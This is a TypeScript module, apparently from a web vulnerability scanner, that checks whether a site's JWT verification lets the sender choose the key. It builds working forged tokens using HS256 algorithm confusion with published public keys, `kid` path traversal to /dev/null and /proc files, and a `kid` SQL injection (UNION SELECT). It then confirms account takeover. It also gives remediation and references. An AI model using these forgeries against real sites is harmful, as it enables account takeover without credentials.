import { randomBytes } from 'node:crypto';
import type { Experiment, Step } from '../../model/experiment.ts';
import { type CheckContext, defineCheck } from '../contract.ts';
import { type CarriedJwt, forgedFrom, type Jwt, signJwt } from '../sessions/jwt.ts';
import { type MarkedPage, openedClaims } from '../sessions/own-sessions.ts';
import { ownKeyWays, type SigningWay } from './jwt-own-key.ts';
import { firstToken, opensWith, type TokenOnPage } from './jwt-walk.ts';
import { publishedKeys } from './public-keys.ts';

type Chosen = SigningWay & { identity: string; page: MarkedPage; carried: CarriedJwt };

/** A token is verified with a key that its sender has chosen. Source: RFC 8725 §2.1, §3.10, CWE-347. */
export const jwtChosenKey = defineCheck<Chosen>({
  id: 'auth.jwt-chosen-key',
  title: 'JWT verified with a key of the attacker (algorithm confusion, kid, jwk or jku injection)',
  cwe: 347,
  owasp: 'A04:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  depth: 'deep',
  risk: 'safe',

  detect: (context) =>
    firstToken(context, async (token) => {
      const way = await acceptedWay(context, token);
      const { name: identity } = token.identity;
      const detail = `A token that was signed here, ${way?.how}, opened the account of "${identity}".`;
      return way && { detail, data: { ...way, identity, page: token.page, carried: token.carried } };
    }),

  confirm: (_context, { data }) => data && experimentFor(data),

  explain: {
    description:
      'The session is a signed token, and the sender decides on the key that it is verified with: a public key is taken for the secret of an HMAC, the identifier of the key (`kid`) is a path or part of a statement, or the key comes along in the token (`jwk`) or from an address in it (`jku`).',
    impact: 'Everybody signs tokens in the name of any user and with any role. No password and no secret is needed.',
    sends:
      'Requests up to 17 addresses where sites publish their keys, then a test user’s page with up to 13 tokens of the same claims, signed here with a published key, the content of a file of every Linux, a word that a statement gives back, or a key in the token or at the listener.',
    proves:
      'The token that was signed here opens the account, twice; the same one signed with another key does not. An attacker signs tokens with any claims. The claims were not changed.',
    remedy:
      'Say which algorithm and which key are expected instead of taking them from the token: `jwt.verify(token, key, { algorithms: ["RS256"] })`, PyJWT `algorithms=["RS256"]`, `JwtDecoder` with a fixed JWK set. Look `kid` up in a list of your own keys, never as a file or in a statement, and ignore `jwk`, `jku` and `x5u` of tokens. Update old libraries.',
    references: [
      'RFC 8725 §3.1, §3.10 (JWT Best Current Practices): https://www.rfc-editor.org/rfc/rfc8725#section-3.1',
      'CWE-347: https://cwe.mitre.org/data/definitions/347.html',
      'WSTG-SESS-10: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens',
    ],
  },
});

async function acceptedWay(context: CheckContext, { carried, page }: TokenOnPage): Promise<SigningWay | undefined> {
  const { jwt } = carried;
  const opens = (token: string) => opensWith(context, carried, page, token);
  // One that opens with any key is another weakness.
  for (const way of [...(await confusedWays(context, jwt)), ...namedWays(context, jwt), ...ownKeyWays(context, jwt)])
    if ((await opens(way.sign(jwt))) && !(await opens(way.other(jwt)))) return way;
  return undefined;
}

/** With an HMAC under a text that anybody has. */
const byText = (how: string, header: Record<string, unknown>, key: string): SigningWay => ({
  ...{ how, header, isText: true },
  sign: ({ claims }) => signJwt(header, claims, Buffer.from(key)),
  other: ({ claims }) => signJwt(header, claims, randomBytes(64)),
});

/** A public key that is taken for the secret of an HMAC. */
async function confusedWays(context: CheckContext, { header }: Jwt): Promise<SigningWay[]> {
  if (/^HS/.test(String(header.alg))) return [];
  const keys = await publishedKeys(context);
  return keys.map((key) =>
    byText('with the published public key as the secret of HS256', { ...header, alg: 'HS256' }, key),
  );
}

/** Contents of files that every Linux has: nothing, and a number that does not change. */
const files = [
  ['/dev/null', ''],
  ['/proc/sys/kernel/ostype', 'Linux\n'],
] as const;

/** A `kid` that leads to a file, or is part of a statement. */
function namedWays({ nonce }: Pick<CheckContext, 'nonce'>, { header }: Jwt): SigningWay[] {
  if (header.kid === undefined) return [];
  const word = nonce();
  const own = { ...header, alg: 'HS256' };
  const up = '../'.repeat(10);
  return [
    ...files.flatMap(([path, content]) =>
      [up.slice(0, -1) + path, path].map((kid) =>
        byText(`with the content of ${path} as its key`, { ...own, kid }, content),
      ),
    ),
    ...["'", '"'].map((quote) =>
      byText(
        'with a word as its key that a statement in its identifier gives back',
        { ...own, kid: `${nonce()}${quote} UNION SELECT ${quote}${word}${quote}-- -` },
        word,
      ),
    ),
  ];
}

function experimentFor({ identity, page, carried, how, header, sign, other, isText }: Chosen): Experiment {
  const step = (token: string, note: string): Step => {
    const made = { token, header, signature: { hash: 'sha256', key: 'text' } } as const;
    const forged = isText ? { forged: forgedFrom(identity, carried, made) } : {};
    const headers = carried.headersWith(page.url, token);
    return { http: { url: page.url, headers, secrets: [token], ...forged }, note, expect: openedClaims(page) };
  };
  return {
    steps: [step(sign(carried.jwt), `A token that we signed ${how} opens the account that its claims name.`)],
    control: [step(other(carried.jwt), 'The same token signed with another key does not: the signature is verified.')],
  };
}
